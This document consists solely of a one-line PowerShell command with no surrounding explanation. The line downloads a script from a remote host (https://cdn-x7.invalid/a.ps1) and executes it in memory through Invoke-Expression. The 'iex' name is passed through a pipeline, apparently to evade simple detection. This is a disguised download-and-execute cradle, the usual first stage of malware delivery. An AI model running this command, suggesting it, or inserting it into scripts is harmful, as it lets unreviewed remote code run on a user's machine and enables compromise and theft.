'iex' | % { & $_ (irm https://cdn-x7.invalid/a.ps1) }
